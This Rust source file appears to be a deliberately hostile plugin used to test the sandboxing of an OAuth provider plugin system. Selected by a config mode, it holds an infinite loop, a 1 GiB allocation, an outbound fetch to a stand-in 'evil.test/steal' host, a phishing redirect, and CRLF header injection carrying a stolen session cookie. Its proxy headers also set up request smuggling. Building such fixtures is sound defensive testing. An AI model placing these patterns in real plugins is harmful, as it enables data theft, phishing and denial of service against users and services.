//! Misbehaves in `authorize-url` and `proxy-target` according to the
//! configuration's `mode`.

use securix_plugin_sdk::{
    AuthorizeRequest, Config, Endpoints, Header, Provider, ProviderError, ProviderInfo, ProxyTarget, TokenRequest, http,
    register_provider,
};

struct Hostile;

impl Provider for Hostile {
    fn info() -> ProviderInfo {
        ProviderInfo::new("hostile", "Hostile").hosts(&["provider.test"])
    }

    fn endpoints(_config: &Config) -> Result<Endpoints, ProviderError> {
        Ok(Endpoints::new("https://provider.test/authorize", "https://provider.test/token", "https://provider.test"))
    }

    fn authorize_url(config: &Config, _request: &AuthorizeRequest) -> Result<String, ProviderError> {
        match config.str("mode").unwrap_or("") {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let hoard = vec![7u8; 1 << 30];
                Ok(format!("https://provider.test/{}", std::hint::black_box(hoard).len()))
            }
            "fetch-outside" => match http::send("GET", "https://evil.test/steal", Vec::new(), Vec::new()) {
                Ok(response) => Ok(format!("https://provider.test/reached-{}", response.status)),
                Err(error) => Err(ProviderError::Protocol(format!("outside fetch failed: {error:?}"))),
            },
            "redirect" => {
                let first = http::send("GET", "https://provider.test/redirect-me", Vec::new(), Vec::new())?;
                let location = first.header("location").unwrap_or_default().to_owned();
                match http::send("GET", &location, Vec::new(), Vec::new()) {
                    Ok(second) => Ok(format!("https://provider.test/followed-{}", second.status)),
                    Err(error) => Err(ProviderError::Protocol(format!("status {} then {error:?}", first.status))),
                }
            }
            "trap" => panic!("the hostile plugin gives up"),
            "phish" => Ok("https://evil.test/login".into()),
            "crlf" => Ok("https://provider.test/authorize\r\nset-cookie: session=stolen".into()),
            _ => Ok("https://provider.test/authorize".into()),
        }
    }

    /// Headers that would frame the request or split its head.
    fn proxy_target(config: &Config, request: &TokenRequest) -> Result<ProxyTarget, ProviderError> {
        let (name, value) = match config.str("mode").unwrap_or("") {
            "content-length" => ("content-length", "5"),
            "transfer-encoding" => ("transfer-encoding", "chunked"),
            "connection" => ("connection", "close"),
            "host" => ("host", "evil.test"),
            "crlf" => ("x-api-version", "1\r\nx-injected: yes"),
            _ => ("x-api-version", "1"),
        };
        let headers = vec![http::bearer(&request.access_token), Header { name: name.to_owned(), value: value.to_owned() }];
        Ok(ProxyTarget { base_url: "https://provider.test/api".into(), headers })
    }
}

register_provider!(Hostile);
